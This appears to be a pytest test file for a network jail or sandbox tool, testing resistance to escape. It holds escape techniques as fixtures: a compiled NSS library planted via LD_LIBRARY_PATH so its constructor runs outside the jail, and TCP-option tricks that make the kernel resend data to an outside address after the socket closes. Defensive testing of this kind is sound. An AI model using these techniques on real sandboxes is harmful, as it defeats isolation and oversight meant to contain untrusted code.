"""Ways out that stay open for a moment: code that the system's own libraries load late, and sockets that outlive a run.

Also what stops working when nothing may be loaded any more.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
from contextlib import closing
from pathlib import Path

import pytest

from tests.support.origins.plain import Greeter
from tests.support.programs import give_up, need
from tests.support.runs.running import (
    ANYWHERE,
    AS_ROOT,
    BY_USER,
    PYTHON,
    as_user,
    environment,
    exeat,
    folder_of,
    python,
    run_argv,
)

_HELLO = "hello from outside"

# Names

_READ_FROM = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), 8) as conn:
    print(conn.recv(100).decode())
"""


def _with_own_file(content: str, path: str, folder: Path) -> list[str]:
    """To be put before a command: this system file has another content for it."""
    need("unshare")
    own = folder / path.replace("/", "-").strip("-")
    own.write_text(content)
    own.chmod(0o644)
    return ["unshare", "-m", "sh", "-c", f"mount --bind {own} {path} && exec " + '"$@"', "sh"]


@pytest.mark.threat("T-L11")
@AS_ROOT
def test_names_are_looked_up_while_the_command_runs(tmp_path: Path) -> None:
    """What the resolver needs, a codec for example, must be in memory before nothing is loaded any more."""
    server = Greeter(socket.create_server(("::1", 0), family=socket.AF_INET6))
    port = str(server._listener.getsockname()[1])
    command = python(_READ_FROM, "named.test", port)
    rule = ("--allow", f"named.test:{port} private")
    with closing(server):
        mapped = exeat(*rule, "--add-host", "named.test:::1", command=command)
        assert _HELLO in mapped.stdout, mapped.stderr
        before = _with_own_file("0:0:0:0:0:0:0:1 named.test\n", "/etc/hosts", tmp_path)
        argv = [*before, *run_argv(rule, command)]
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60, env=environment(), check=False)
        assert _HELLO in done.stdout, done.stderr


# Libraries that the C library loads at the first look-up

_LIBRARY = """
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void tell(void)
{
    char network[64];
    ssize_t length = readlink("/proc/self/ns/net", network, sizeof network);
    int mark = open(MARK, O_CREAT | O_WRONLY | O_APPEND, 0666);
    if (mark >= 0 && length > 0)
        (void)!write(mark, network, length);
}
"""
_MODULE = "libnss_exeatprobe.so.2"
_LOOK_UP = "import socket\ntry:\n    socket.getaddrinfo('wanted.test.', 80)\nexcept OSError:\n    print('asked')\n"
_PLANT_AND_ASK = """
import shutil, socket, sys
shutil.copy(sys.argv[1], sys.argv[2])
with socket.create_connection(("127.0.0.1", 61080), 10) as proxy:
    proxy.sendall(b"CONNECT wanted.test:8080 HTTP/1.1\\r\\nHost: wanted.test:8080\\r\\n\\r\\n")
    print("asked", proxy.recv(100))
"""


@pytest.mark.threat("T-L11")
@AS_ROOT
@BY_USER
def test_the_gateway_loads_no_library_that_the_command_has_put_in_its_way(uid: int | None) -> None:
    """Name services are libraries (mDNS, systemd, in older C libraries DNS itself), found by LD_LIBRARY_PATH."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        give_up("no C compiler")
    host_network = str(Path("/proc/self/ns/net").readlink())
    with folder_of(uid) as folder:
        mark, built, libraries = folder / "mark", folder / "built.so", folder / "lib"
        source = folder / "probe.c"
        source.write_text(_LIBRARY)
        subprocess.run([compiler, "-shared", "-fPIC", f'-DMARK="{mark}"', "-o", built, source], check=True)
        built.chmod(0o755)
        libraries.mkdir()
        os.chown(libraries, uid or 0, uid or 0)
        settings = environment(LD_LIBRARY_PATH=str(libraries), PYTHONIOENCODING="ascii")
        before = _with_own_file("hosts: files exeatprobe\n", "/etc/nsswitch.conf", folder)

        shutil.copy(built, libraries / _MODULE)
        subprocess.run([*before, *as_user(uid), *python(_LOOK_UP)], env=settings, check=True, timeout=30)
        assert host_network in mark.read_text(), "the control: such a library is loaded"
        mark.unlink()
        (libraries / _MODULE).unlink()

        command = python(_PLANT_AND_ASK, str(built), str(libraries / _MODULE))
        done = exeat("--allow", "wanted.test:8080", command=command, uid=uid, before=before, env=settings, cwd=folder)
        assert "asked" in done.stdout, done.stderr
        told = mark.read_text() if mark.exists() else ""
        assert host_network not in told, "the command's own code ran outside the jail"


# Sockets that outlive the run, in a network that is shared

# Nothing that comes in is taken any more, as it is not signed or has come too far: the peer's end is not noticed. What
# was sent is repeated by the kernel, long after the socket was closed and belongs to no one.
_LEAVE_BEHIND = """
import socket, struct, sys, time
left = socket.socket()
left.settimeout(5)
left.connect(("203.0.113.9", 9999))
peer = struct.pack("=HH4s", socket.AF_INET, socket.htons(9999), socket.inet_aton("203.0.113.9")).ljust(128, bytes(1))
try:
    if sys.argv[2] == "md5":
        left.setsockopt(socket.IPPROTO_TCP, 14, peer + struct.pack("=BBHi", 0, 0, 4, 0) + b"key!".ljust(80, bytes(1)))
    else:
        left.setsockopt(socket.IPPROTO_IP, 21, 255)  # IP_MINTTL
except OSError as error:
    print("refused:", error)
left.send(b"CARRIED-OUT")
left.close()
print("left", flush=True)
time.sleep(float(sys.argv[1]))
"""
# Runs a command in a network with one way out, and tells what left there: while it ran, and for some seconds after.
_WATCH_WIRE = """
import socket, subprocess, sys, threading, time
for line in ("link set lo up", "link add out0 type veth peer name out1", "link set out0 up", "link set out1 up",
             "addr add 192.0.2.1/24 dev out0", "route add default via 192.0.2.2",
             "neigh add 192.0.2.2 lladdr 02:00:00:00:00:02 dev out0"):
    subprocess.run(["ip", *line.split()], check=True)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("out0", 0))
wire.settimeout(0.5)
seen = []
over = threading.Event()
def watch():
    while not over.is_set():
        try:
            seen.append(wire.recv(2000))
        except TimeoutError:
            continue
watching = threading.Thread(target=watch)
watching.start()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"CONTROL", ("203.0.113.9", 9))
with open("/proc/sys/net/netfilter/nf_conntrack_tcp_timeout_close", "w") as setting:
    setting.write("1")  # 10 s as a rule: the same happens, later
subprocess.run(sys.argv[2:])
time.sleep(float(sys.argv[1]))
over.set()
watching.join()
print("control" if any(b"CONTROL" in each for each in seen) else "nothing seen")
print("ESCAPED" if any(b"CARRIED-OUT" in each for each in seen) else "held")
"""


@pytest.mark.threat("T-L7")
@AS_ROOT
@pytest.mark.parametrize(
    ("deaf", "runs_s", "after_s"), [("ttl", 0.5, 6), ("md5", 6, 0)], ids=["after the run", "while it runs"]
)
def test_a_closed_connection_of_the_nft_jail_carries_nothing_out(runs_s: float, after_s: float, deaf: str) -> None:
    need("unshare", "ip")
    inner = run_argv(("--jail", "nft", "--allow", "example.com"), python(_LEAVE_BEHIND, str(runs_s), deaf))
    whole = ["unshare", "-n", PYTHON, "-c", _WATCH_WIRE, str(after_s), *inner]
    done = subprocess.run(
        whole, capture_output=True, text=True, timeout=60, env=environment(), cwd=ANYWHERE, check=False
    )
    assert "control" in done.stdout, done.stderr
    assert "left" in done.stdout, done.stderr
    assert "ESCAPED" not in done.stdout, "bytes of the command's choice left the machine, to an address without a rule"
